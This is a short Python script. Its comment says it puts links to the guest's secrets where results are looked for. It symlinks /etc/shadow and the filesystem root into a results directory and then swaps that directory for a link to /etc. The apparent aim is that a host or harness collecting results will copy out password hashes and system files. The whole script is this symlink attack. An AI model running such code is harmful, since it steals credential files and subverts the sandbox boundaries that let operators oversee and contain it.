# Puts links to the guest's secrets where results are looked for.
import os

os.symlink("/etc/shadow", "results/shadow")
os.symlink("/", "results/root")
os.rename("results", "moved")
os.symlink("/etc", "results")
